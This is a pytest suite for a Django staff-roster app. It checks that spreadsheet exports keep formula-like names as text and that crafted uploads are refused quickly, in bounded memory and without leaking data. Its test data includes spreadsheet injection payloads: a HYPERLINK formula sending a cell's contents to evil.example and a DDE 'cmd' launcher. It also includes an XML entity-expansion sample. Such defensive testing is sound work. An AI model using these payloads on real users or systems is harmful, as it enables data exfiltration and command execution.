"""Hostile spreadsheets, in and out (issue 12, items 9, 10, 15 and 23).

Out: a name typed as a formula must come back from every export as text.
In: a crafted upload must be refused by what it declares and by what it holds,
quickly and in bounded memory; an identifier typed as a number must be read
exactly or refused; a refusal must not say where another unit's person works.
"""

from __future__ import annotations

import datetime as dt
import io
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.test.utils import override_settings
from django.urls import reverse
from openpyxl import load_workbook

from kaohe.core.errors import CoreErrorCode
from kaohe.core.models import AuditEvent
from kaohe.org.errors import OrgErrorCode
from kaohe.org.models import Membership, Person
from kaohe.org.roster import COLUMNS, roster_import
from kaohe.schemes import services
from kaohe.schemes.models import Indicator, IndicatorResult, SchemeVersion
from kaohe.testing import World, refused, roster_row, roster_xlsx

pytestmark = pytest.mark.django_db
TODAY = dt.date(2026, 4, 30)
NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

# What Excel or WPS would evaluate if written as a formula; the tab is stripped on import.
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "\t=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    " =2+2",
    "＝3+3",
]
# The 18-digit ID-card number of the issue, as Excel keeps it once typed as a number.
ID_NUMBER = 110101199001011234
ID_AS_EXCEL_KEEPS_IT = 1.101011990010112e17


def run_import(world: World, content: bytes, user: str = "unit_admin") -> Any:
    return roster_import(
        actor=world.users[user], upload=io.BytesIO(content), size=len(content), file_name="t.xlsx"
    )


def snapshot() -> tuple[int, int, int]:
    return Person.objects.count(), Membership.objects.count(), AuditEvent.objects.count()


def sheet_xml(book: bytes, part: str = "xl/worksheets/sheet1.xml") -> str:
    return zipfile.ZipFile(io.BytesIO(book)).read(part).decode()


def text_cells_are_text(book: bytes, texts: list[str]) -> None:
    """Every cell holding one of `texts` is a text cell marked as typed text, and no
    sheet of the workbook holds a formula."""
    archive = zipfile.ZipFile(io.BytesIO(book))
    for part in archive.namelist():
        if part.startswith("xl/worksheets/"):
            assert "<f>" not in archive.read(part).decode(), part
    wanted = {t.strip() for t in texts}
    found = set()
    for sheet in load_workbook(io.BytesIO(book)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.strip() in wanted:
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    assert cell.quotePrefix, (cell.coordinate, cell.value)
                    found.add(cell.value.strip())
    assert found == wanted


# ---------------------------------------------------------------- 9: formulas out


def test_formula_names_come_back_as_text_from_the_unit_roster_export(
    world: World, client_as: Callable[[str], Client]
) -> None:
    rows = [roster_row(f"F{i:03d}", name) for i, name in enumerate(FORMULA_NAMES)]
    run_import(world, roster_xlsx(rows))
    stored = set(Person.objects.filter(staff_no__startswith="F").values_list("name", flat=True))
    assert "=1+1" in stored  # the import stripped the tab, leaving a bare formula

    response = client_as("unit_admin").get(reverse("org:unit_export", args=[world.bureau.pk]))
    assert response.status_code == 200
    text_cells_are_text(response.content, sorted(stored))
    # Written as text, the names read back exactly: re-importing changes nothing.
    result = run_import(world, response.content)
    assert result.people_updated == 0 and result.memberships_opened == 0


@pytest.fixture
def approved(world: World, drafted: SchemeVersion) -> SchemeVersion:
    services.version_submit(actor=world.users["unit_admin"], version=drafted)
    services.version_approve(actor=world.users["region_admin"], version=drafted)
    return drafted


@override_settings(KAOHE_TODAY=TODAY)
def test_formula_names_come_back_as_text_from_the_entry_grid_export(
    world: World, approved: SchemeVersion, client_as: Callable[[str], Client]
) -> None:
    Person.objects.filter(pk=world.people["cadre"].pk).update(name="=1+1")
    Person.objects.filter(pk=world.people["team"].pk).update(name="@SUM(1+1)")
    task = Indicator.objects.get(version=approved, name="完成任务")
    # The header names a leaf by its path, so the formula goes in its top group's name.
    Indicator.objects.filter(pk=task.parent_id).update(name="=cmd|' /C calc'!A0")
    client = client_as("unit_admin")
    export = reverse("schemes:entry_export", args=[world.bureau.pk, 2026, 1])
    response = client.get(export)
    assert response.status_code == 200
    text_cells_are_text(response.content, ["=1+1", "@SUM(1+1)"])
    header = next(load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows())
    task = next(c for c in header if isinstance(c.value, str) and "cmd" in c.value)
    assert task.data_type == "s" and task.quotePrefix
    # The text cells still round-trip: the untouched sheet uploads without a complaint.
    upload = SimpleUploadedFile("结果.xlsx", response.content)
    page = client.post(reverse("schemes:entry", args=[world.bureau.pk, 2026, 1]), {"file": upload})
    assert page.status_code == 302


# ---------------------------------------------------------------- 10: bounded reading


def istr(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def header_row() -> str:
    letters = "ABCDEFGHIJK"
    return (
        '<row r="1">'
        + "".join(istr(f"{c}1", h) for c, h in zip(letters, COLUMNS, strict=True))
        + "</row>"
    )


def person_rows(first: int, last: int) -> Iterator[str]:
    for n in range(first, last + 1):
        yield f'<row r="{n}">{istr(f"A{n}", f"P{n}")}{istr(f"B{n}", "周新")}</row>'


def worksheet(rows: str, dimension: str | None) -> str:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS}">{dim}'
        f"<sheetData>{rows}</sheetData></worksheet>"
    )


def replace_part(book: bytes, xml: str, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    """`book` with one part's XML replaced: a file as a hostile client would craft it."""
    source = zipfile.ZipFile(io.BytesIO(book))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = xml.encode() if info.filename == part else source.read(info)
            target.writestr(info.filename, data)
    return out.getvalue()


def hostile_roster(rows: str, dimension: str | None) -> bytes:
    return replace_part(roster_xlsx([]), worksheet(header_row() + rows, dimension))


@dataclass
class Cost:
    seconds: float = 0.0
    peak_mb: float = 0.0


@contextmanager
def measured() -> Iterator[Cost]:
    cost = Cost()
    tracemalloc.start()
    started = time.perf_counter()
    try:
        yield cost
    finally:
        cost.seconds = time.perf_counter() - started
        cost.peak_mb = tracemalloc.get_traced_memory()[1] / 1024 / 1024
        tracemalloc.stop()


def refused_import(world: World, content: bytes, code: CoreErrorCode) -> tuple[str, Cost]:
    """The message of the workbook refusal the import meets (checked to carry `code`)."""
    before = snapshot()
    with measured() as cost, refused(code) as caught:
        run_import(world, content)
    assert snapshot() == before
    return caught.value.message, cost


def test_a_sheet_claiming_a1_to_xfd3001_is_refused_before_its_rows_are_read(
    world: World,
) -> None:
    content = hostile_roster("".join(person_rows(2, 3001)), "A1:XFD3001")
    assert len(content) < 64 * 1024
    message, cost = refused_import(world, content, CoreErrorCode.SHEET_TOO_LARGE)
    assert "A1:XFD3001" in message
    # The old reader padded 3,001 rows to 16,384 cells: 376 MB traced.
    assert cost.peak_mb < 20, f"peak {cost.peak_mb:.0f} MB"
    assert cost.seconds < 5, f"{cost.seconds:.1f} s"


def test_a_200000_row_sheet_is_refused_by_its_declared_size(world: World) -> None:
    content = hostile_roster("".join(person_rows(2, 200_001)), "A1:K200001")
    message, cost = refused_import(world, content, CoreErrorCode.SHEET_TOO_LARGE)
    assert "A1:K200001" in message
    assert cost.peak_mb < 20, f"peak {cost.peak_mb:.0f} MB"
    assert cost.seconds < 5, f"{cost.seconds:.1f} s"


@override_settings(KAOHE_ROSTER_MAX_ROWS=2000)  # a lower limit keeps the test quick
def test_a_200000_row_sheet_that_hides_its_size_stops_at_the_row_limit(world: World) -> None:
    # No <dimension>: openpyxl alone would parse the whole sheet just to size it.
    content = hostile_roster("".join(person_rows(2, 200_001)), None)
    message, cost = refused_import(world, content, CoreErrorCode.TOO_MANY_ROWS)
    assert "2000" in message
    assert cost.peak_mb < 20, f"peak {cost.peak_mb:.0f} MB"
    assert cost.seconds < 5, f"{cost.seconds:.1f} s"


def test_a_row_numbered_one_million_is_refused_not_padded(world: World) -> None:
    row = f'<row r="1000000">{istr("A1000000", "P1")}</row>'
    message, cost = refused_import(world, hostile_roster(row, None), CoreErrorCode.TOO_MANY_ROWS)
    assert "20000" in message
    assert cost.seconds < 5, f"{cost.seconds:.1f} s"


def test_a_cell_in_column_xfd_is_refused_whatever_the_dimension_says(world: World) -> None:
    rows = f'<row r="2">{istr("A2", "P2")}{istr("XFD2", "x")}</row>'
    message, _cost = refused_import(
        world, hostile_roster(rows, "A1:K3"), CoreErrorCode.TOO_MANY_COLUMNS
    )
    assert "XFD" in message and "256" in message


def test_a_dimension_smaller_than_the_data_loses_no_row(world: World) -> None:
    # A file stating A1:K2 but holding three people: every row is read and checked.
    rows = [roster_row("N001"), roster_row("N002", 职级="科员"), roster_row("N003")]
    content = roster_xlsx(rows)
    xml = sheet_xml(content)
    start = xml.index("<sheetData>")
    content = replace_part(content, xml[:start] + '<dimension ref="A1:K2"/>' + xml[start:])
    with refused(OrgErrorCode.ROSTER_ROWS_INVALID) as caught:
        run_import(world, content)
    assert any("第 3 行 职级" in str(e) for e in caught.value.problems)


@pytest.mark.parametrize(
    "xml",
    [
        '<?xml version="1.0"?><worksheet xmlns="' + NS + '"><sheetData><row',
        '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        '<worksheet xmlns="' + NS + '"><sheetData><row r="1"><c r="A1" t="inlineStr">'
        "<is><t>&b;</t></is></c></row></sheetData></worksheet>",
    ],
    ids=["truncated-xml", "entity-expansion"],
)
def test_a_damaged_or_entity_laden_sheet_gets_a_message_not_a_500(
    world: World, client_as: Callable[[str], Client], xml: str
) -> None:
    client = client_as("unit_admin")
    before = snapshot()
    content = replace_part(roster_xlsx([roster_row("N001")]), xml)
    response = client.post(
        reverse("org:roster_import"), {"file": SimpleUploadedFile("名册.xlsx", content)}
    )
    assert response.status_code == 200
    assert "已损坏" in response.content.decode()
    assert snapshot() == before


@override_settings(KAOHE_TODAY=TODAY)
def test_the_entry_grid_upload_reads_through_the_same_bounds(
    world: World, approved: SchemeVersion, client_as: Callable[[str], Client]
) -> None:
    client = client_as("unit_admin")
    sheet = client.get(reverse("schemes:entry_export", args=[world.bureau.pk, 2026, 1])).content
    content = replace_part(sheet, worksheet("".join(person_rows(1, 3001)), "A1:XFD3001"))
    before = IndicatorResult.objects.count(), AuditEvent.objects.count()
    url = reverse("schemes:entry", args=[world.bureau.pk, 2026, 1])
    with measured() as cost:
        response = client.post(url, {"file": SimpleUploadedFile("结果.xlsx", content)})
    assert response.status_code == 200
    assert "A1:XFD3001" in response.content.decode()
    assert cost.peak_mb < 20, f"peak {cost.peak_mb:.0f} MB"
    assert (IndicatorResult.objects.count(), AuditEvent.objects.count()) == before


# ---------------------------------------------------------------- 15: identifiers


@pytest.mark.parametrize(
    "typed", [ID_AS_EXCEL_KEEPS_IT, ID_NUMBER], ids=["as-excel-keeps-it", "exact-18-digits"]
)
def test_an_18_digit_staff_number_typed_as_a_number_is_refused(world: World, typed: Any) -> None:
    before = snapshot()
    with refused(OrgErrorCode.ROSTER_ROWS_INVALID) as caught:
        run_import(world, roster_xlsx([roster_row(typed)]))
    [error] = caught.value.problems
    assert str(error).startswith("第 2 行 人员编号：") and "文本" in str(error)
    assert snapshot() == before
    assert not Person.objects.filter(staff_no__startswith="1101011990").exists()


def test_a_staff_number_typed_as_text_or_as_a_short_number_is_read_exactly(
    world: World,
) -> None:
    # Our call: a whole number of at most 15 digits is what Excel shows, so it is taken.
    run_import(world, roster_xlsx([roster_row(str(ID_NUMBER)), roster_row(20190001)]))
    stored = set(Person.objects.values_list("staff_no", flat=True))
    assert {str(ID_NUMBER), "20190001"} <= stored


def test_the_roster_template_formats_the_identifier_columns_as_text(
    world: World, client_as: Callable[[str], Client]
) -> None:
    response = client_as("unit_admin").get(reverse("org:roster_template"))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert sheet.column_dimensions["A"].number_format == "@"  # 人员编号
    assert sheet.column_dimensions["E"].number_format == "@"  # 单位编码


@override_settings(KAOHE_TODAY=TODAY)
def test_a_staff_number_typed_as_a_number_in_the_entry_grid_is_refused(
    world: World, approved: SchemeVersion, client_as: Callable[[str], Client]
) -> None:
    Person.objects.filter(pk=world.people["cadre"].pk).update(staff_no=str(ID_NUMBER))
    client = client_as("unit_admin")
    sheet = client.get(reverse("schemes:entry_export", args=[world.bureau.pk, 2026, 1])).content
    book = load_workbook(io.BytesIO(sheet))
    grid = book.worksheets[0]
    row = next(r for r in grid.iter_rows(min_row=3) if r[0].value == str(ID_NUMBER))
    row[0].value = ID_AS_EXCEL_KEEPS_IT
    row[3].value = 27
    buffer = io.BytesIO()
    book.save(buffer)
    url = reverse("schemes:entry", args=[world.bureau.pk, 2026, 1])
    response = client.post(url, {"file": SimpleUploadedFile("结果.xlsx", buffer.getvalue())})
    page = response.content.decode()
    assert "人员编号" in page and "文本" in page
    assert not IndicatorResult.objects.exists()


# ---------------------------------------------------------------- 23: no leak on refusal


def test_a_taken_staff_number_does_not_say_which_unit_holds_it(
    world: World, client_as: Callable[[str], Client]
) -> None:
    town_cadre = world.people["town_cadre"]
    content = roster_xlsx([roster_row(town_cadre.staff_no, "冒名", 起始日期="2026-09-01")])
    response = client_as("unit_admin").post(
        reverse("org:roster_import"), {"file": SimpleUploadedFile("名册.xlsx", content)}
    )
    refusal = response.context["refusal"]
    assert refusal.code == OrgErrorCode.ROSTER_ROWS_INVALID
    [error] = refusal.problems
    assert "已被占用" in error
    for secret in (world.town.name, world.town.code, town_cadre.name):
        assert secret not in error
    assert Membership.objects.filter(person=town_cadre).count() == 1
